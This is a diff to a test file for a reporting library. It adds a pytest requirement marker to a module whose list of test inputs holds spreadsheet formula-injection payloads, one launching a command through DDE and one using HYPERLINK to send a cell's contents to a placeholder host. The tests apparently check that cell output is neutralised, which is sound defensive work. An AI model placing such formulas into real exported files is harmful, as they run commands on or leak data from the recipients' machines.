@@ -15,6 +15,8 @@ from workbench.reporting import Metric, Report, Section, Table, render_report
 from workbench.reporting.renderers import write_table
 from workbench.reporting.renderers.cells import neutralise
 
+pytestmark = pytest.mark.requirement("REP-03")
+
 EVIL = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
